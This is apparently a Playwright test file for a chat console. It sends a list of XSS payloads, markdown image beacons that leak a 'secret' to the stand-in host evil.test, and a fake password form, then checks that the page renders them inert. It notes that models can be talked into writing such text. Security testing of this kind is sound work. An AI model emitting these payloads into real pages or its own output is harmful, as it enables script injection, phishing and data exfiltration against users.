"""What a model writes is untrusted: the page shows it, and obeys none of it."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from shared.console import CONTENT_SECURITY_POLICY
from tests.page.conftest import Console

pytestmark = pytest.mark.slow

# What a model may be talked into writing: scripts, beacons that carry data away, a fake form.
PAYLOADS = [
    "<script>window.ran = 1</script>",
    "<img src=x onerror=window.ran=1>",
    "<svg onload=window.ran=1><circle r=9></svg>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<iframe src=javascript:parent.ran=1></iframe>",
    "<details open ontoggle=window.ran=1>x</details>",
    "<a href='javascript:window.ran=1'>click</a>",
    "<object data=javascript:window.ran=1></object>",
    "<style>body { background: url(http://evil.test/style) }</style>",
    "<link rel=stylesheet href=http://evil.test/link>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/meta'>",
    "<base href=http://evil.test/>",
    "<form action=http://evil.test/form><input name=password><button>Sign in</button></form>",
    "[click](javascript:window.ran=1)",
    "[click](java\tscript:window.ran=1)",
    "[click](data:text/html,<script>window.ran=1</script>)",
    "![beacon](http://evil.test/image?q=secret)",
    "[![beacon](//evil.test/nested?q=secret)](vbscript:x)",
    '![x](x"onerror="window.ran=1)',
    "[ref]: javascript:window.ran=1\n\n[ref] `<script>window.ran=1</script>`",
]


def test_model_text_cannot_run_load_or_ask_for_anything(console: Console) -> None:
    page = console.page
    console.expected = ("404 (Not Found)",)  # images of this origin may load; these are not there
    response = page.goto(console.site.url)
    assert response
    assert response.headers["content-security-policy"] == CONTENT_SECURITY_POLICY
    console.open()
    for payload in PAYLOADS:
        console.send(f"say {payload}")
    expect(console.answers).to_have_count(len(PAYLOADS))
    assert page.evaluate("() => window.ran") is None
    built = console.answers.locator(
        "script, iframe, object, embed, style, link, meta, base, form, svg, [onerror], [onload]"
    )
    expect(built).to_have_count(0)
    for link in console.answers.get_by_role("link").all():
        assert (link.get_attribute("href") or "").startswith(("http:", "https:", "mailto:"))
        assert link.get_attribute("rel") == "noopener noreferrer"
    for image in console.answers.locator("img").all():
        assert (image.get_attribute("src") or "").startswith(console.site.url)
    expect(console.answers.nth(0)).to_have_text(PAYLOADS[0])  # shown, not swallowed
